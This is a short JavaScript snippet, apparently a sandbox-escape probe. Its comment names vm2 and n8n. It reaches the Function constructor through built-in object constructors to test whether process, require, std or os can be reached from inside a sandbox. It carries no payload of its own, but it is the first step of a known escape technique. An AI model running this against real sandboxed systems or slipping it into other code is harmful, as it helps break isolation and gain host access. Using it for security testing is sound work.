// vm2, n8n, E7: constructor.constructor("return process")().
const run = (make) => {
  try {
    return make('return typeof process + typeof require + typeof std + typeof os')();
  } catch {
    return null;
  }
};
const found = [({}).constructor.constructor, [].constructor.constructor, ''.constructor.constructor, (0).constructor.constructor].map(run).find((answer) => answer !== null && answer !== 'undefinedundefinedundefinedundefined');
return found ?? null;
